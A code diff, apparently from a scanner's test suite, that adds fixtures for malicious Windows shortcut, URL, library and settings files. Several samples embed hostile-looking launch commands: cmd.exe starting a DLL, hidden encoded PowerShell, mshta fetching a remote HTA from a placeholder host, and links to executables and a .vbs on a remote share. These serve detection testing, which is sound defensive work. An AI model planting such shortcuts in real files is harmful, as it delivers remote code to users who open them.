@@ -359,6 +359,39 @@ def slides_and_controls():
     sample("button.docx", control("{D7053240-CE69-11CD-A777-00DD01143C57}"))
 
 
+def shortcut(target, arguments, is_wide=True):
+    """[MS-SHLLINK] 2: a list of one identifier, a name, a path and arguments."""
+    flags = 1 | 4 | 8 | 0x20 | (0x80 if is_wide else 0)
+    head = struct.pack("<I16sI", 76, bytes.fromhex("0114020000000000c000000000000046"), flags)
+    identifiers = struct.pack("<HH", len(target) + 4, len(target) + 2) + target.encode() + bytes(2)
+    texts = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le" if is_wide else "ascii")
+                     for text in ("A letter", "..\\a", arguments))
+    return head.ljust(76, b"\0") + identifiers + texts + bytes(4)
+
+
+def shortcuts():
+    runs, leads = "shortcut-runs-command", "shortcut-to-program"
+    command = "C:\\Windows\\System32\\cmd.exe"
+    sample("run.lnk", shortcut(command, "/c start a.dll"), "suspicious", runs)
+    sample("run-ansi.lnk", shortcut("C:\\x.exe", "-w hidden PowerShell -enc A", False), "suspicious", runs)
+    sample("fetch.lnk", shortcut("mshta.exe", "http://x.test/a.hta"), "suspicious", runs)
+    sample("cut.lnk", shortcut(command, "/c a")[:80])
+    sample("letter.lnk", shortcut("C:\\Office\\winword.exe", '"C:\\My letters\\a.docx"'))
+    sample("share.url", b"[InternetShortcut]\r\nURL=\\\\192.0.2.1@80\\a\\b.vbs\r\n", "suspicious", leads)
+    sample("file.url", b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\n"
+           b"url=file://192.0.2.1/a/b.exe\r\n", "suspicious", leads)
+    sample("site.url", b"[InternetShortcut]\r\nURL=https://x.test/a.exe\r\n")
+    for name, place, wanted in (("web", "http://192.0.2.1/a", ["suspicious", "library-from-web"]),
+                                ("own", "knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}", ["clean"])):
+        sample(name + ".library-ms", (f"<?xml version='1.0'?><libraryDescription><simpleLocation><url>{place}"
+                                      "</url></simpleLocation></libraryDescription>").encode(), *wanted)
+    for name, program, wanted in (("run", "cmd.exe /c a", ["suspicious", "setting-runs-command"]),
+                                  ("show", "control.exe /name Microsoft.Display", ["clean"])):
+        sample(name + ".settingcontent-ms", (f"<?xml version='1.0'?><PCSettings><SearchableContent><DeepLink>"
+                                             f"%windir%\\system32\\{program}</DeepLink></SearchableContent>"
+                                             "</PCSettings>").encode(), *wanted)
+
+
 def limits():
     """What is too large to be weighed is told, and what was found until then counts."""
     deep = b"{\\rtf1" + b"{" * 1100 + b"}" * 1100
@@ -381,7 +414,7 @@ def limits():
 def main():
     program, signatures = sys.argv[1:]
     for make in (vba, replaced, actions, fields, links, formulas, workbooks, workbooks12, rtf,
-                 open_document, slides_and_controls, limits):
+                 open_document, slides_and_controls, shortcuts, limits):
         make()
     failed = 0
     with tempfile.TemporaryDirectory(prefix="storehook-macros-") as folder:
